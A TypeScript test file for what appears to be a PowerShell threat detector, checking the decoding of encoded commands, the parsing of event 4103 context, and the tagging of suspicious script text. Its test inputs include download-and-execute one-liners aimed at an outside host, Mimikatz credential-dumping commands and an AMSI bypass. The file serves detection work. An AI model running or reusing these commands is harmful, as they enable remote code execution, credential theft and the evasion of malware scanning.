import { describe, expect, it } from 'vitest';
import { decodedCommand, decodedInScript, hostApplication, tellings } from '../../../src/model/powershell';

const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

describe('an encoded command', () => {
  it.each(['-e', '-ec', '-en', '-enc', '-EncodedCommand', '/enc', '–enc', '-enc  "'])('after %s', (flag) => {
    const quote = flag.endsWith('"') ? '"' : '';
    const line = `powershell -nop ${flag}${quote ? '' : ' '}${utf16('whoami /all')}${quote}`;
    expect(decodedCommand(line, 8)).toBe('whoami /all');
  });

  it.each([
    'powershell -ep bypass -File averyveryverylongname',
    'powershell -ExecutionPolicy RemoteSignedAndMoreOfIt',
    'powershell -Command Get-Date',
    'powershell -enc',
    '',
  ])('is not in %s', (line) => {
    expect(decodedCommand(line, 8)).toBeUndefined();
  });

  it('is text and nothing else, and no shorter than asked for', () => {
    const said = decodedCommand(`powershell -enc ${utf16('a\u0000\r\n\u202eb\u2028<b>\ud800c')}`, 8)!;
    expect(said).toBe('a b <b> c');
    expect(decodedCommand(`powershell -enc ${utf16('x')}`, 24)).toBeUndefined();
  });

  it('takes no longer for a line made to be slow', () => {
    const before = performance.now();
    for (const part of ['-e ', '-enc         ', '-ennnnnnnnnnnnnn', '-e\t\t\t'])
      decodedCommand(part.repeat(100_000), 8);
    expect(performance.now() - before).toBeLessThan(1_000);
  });
});

describe('an encoded command in a script', () => {
  it('is found in the line that starts PowerShell, and nowhere else', () => {
    const code = utf16('whoami /all; hostname');
    expect(decodedInScript(`$a = 1\r\nStart-Process pwsh "-enc ${code}"`, 24)).toBe('whoami /all; hostname');
    expect(decodedInScript(`powershell\nother.exe -e ${code}`, 24)).toBeUndefined();
  });
});

describe('what is telling in a PowerShell text', () => {
  it.each([
    ["IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", 'fetches code and runs it'],
    ['iwr http://203.0.113.9/a.ps1 -UseBasicParsing | iex', 'fetches code and runs it'],
    ['I`E`X(Invoke-RestMethod $u)', 'fetches code and runs it'],
    ['$c = irm $u\nInvoke-Expression $c', 'fetches code and runs it'],
    ['Invoke-Mimikatz -DumpCreds', 'names Invoke-Mimikatz'],
    ['privilege::debug sekurlsa::logonpasswords', 'names sekurlsa::logonpasswords'],
    ['Invoke-SharpHound4 -c All', 'names Invoke-SharpHound4'],
    [
      "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')",
      'turns off the scan for malware',
    ],
  ])('%s', (text, does) => {
    expect(tellings(text).map((one) => one.does)).toEqual([does]);
  });

  it.each([
    'Get-ChildItem C:\\Users',
    'Invoke-WebRequest https://firm.example/agent.msi -OutFile agent.msi',
    "Invoke-Expression 'Get-Date'",
    `Invoke-WebRequest $u${' '.repeat(400)}; iex $c`,
    'hexiex; .DownloadStrings; Invoke-MimikatzReport; WirmX | iexplore',
    '# amsi and mimikatz are words',
    '',
  ])('nothing: %s', (text) => {
    expect(tellings(text)).toEqual([]);
  });

  it('is each kind once, where it stands', () => {
    const text = "x; iex (iwr 'u'); iex (iwr 'v'); Invoke-Mimikatz; [x]::amsiInitFailed";
    expect(tellings(text)).toEqual([
      { does: 'fetches code and runs it', technique: 'T1059.001', at: 3 },
      { does: 'names Invoke-Mimikatz', technique: 'T1003.001', at: 33 },
      { does: 'turns off the scan for malware', technique: 'T1562.001', at: 55 },
    ]);
  });

  it('takes no longer for a text made to be slow', () => {
    const before = performance.now();
    for (const part of [
      'iex ',
      'Invoke-Sharp',
      'Invoke-SharpAAAA ',
      '`',
      'Host Application = ',
      ' \n',
      'sekurlsa::',
    ])
      for (const read of [tellings, hostApplication, (text: string) => decodedInScript(text, 24)])
        read(part.repeat(200_000));
    expect(performance.now() - before).toBeLessThan(3_000);
  });
});

it('a 4103’s context tells how the process was begun', () => {
  const context =
    '        Severity = Informational\r\n        Host Application = powershell.exe -ec AA==\r\n        Engine Version = 5.1';
  expect(hostApplication(context)).toBe('powershell.exe -ec AA==');
  expect(hostApplication('Hostanwendung = x')).toBe('');
});
